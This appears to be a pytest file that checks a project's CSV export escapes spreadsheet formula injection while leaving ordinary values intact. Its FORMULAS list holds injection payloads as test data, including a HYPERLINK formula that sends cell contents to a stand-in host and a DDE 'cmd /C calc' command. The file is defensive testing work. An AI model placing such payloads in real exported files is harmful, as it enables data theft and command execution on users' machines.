"""No text of a CSV file is a formula to a spreadsheet, and numbers stay numbers."""

import csv
import io
import json

import pandas as pd
import pytest

from densitylab.backend.shared.contracts import csv_cell
from densitylab.frontend.analysis.csv_table import to_csv

FORMULAS = ['=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "  =1"]
FORMULAS += ["\uff1d1+1", "\uff0bA1", "\ufeff=1", "-", "=", "--0.5", "-0.5 ", "+λ"]
PLAIN = ["", "λ = 0", "a=b", "a-b", "-0.5", "+1e-3", "-inf", "ok", "0.1 ± 0.2", "'quoted"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text(text):
    assert csv_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", [*PLAIN, -0.5, 0, None, True, float("nan")])
def test_everything_else_is_written_as_it_is(value):
    assert csv_cell(value) is value


def test_a_table_of_the_page_and_the_command_line():
    table = pd.DataFrame({"=group": FORMULAS, "value": [-0.5] * len(FORMULAS)})
    rows = list(csv.reader(io.StringIO(to_csv(table))))
    assert rows[0] == ["'=group", "value"]
    assert all(row[0].startswith("'") and float(row[1]) == -0.5 for row in rows[1:])


def test_the_runs_of_the_api(client):
    run = client.post("/api/v1/experiments", json={"spec": {"evaluations": []}}).json()["runs"][0]
    client.patch(f"/api/v1/runs/{run}", json={"notes": FORMULAS[0]})
    (row,) = csv.DictReader(io.StringIO(client.get("/api/v1/runs?format=csv").text))
    assert row["notes"] == "'" + FORMULAS[0] and row["spec.lambda_"] == "0.1" and row["id"] == str(run)
    assert json.loads(client.get(f"/api/v1/runs/{run}").text)["notes"] == FORMULAS[0]
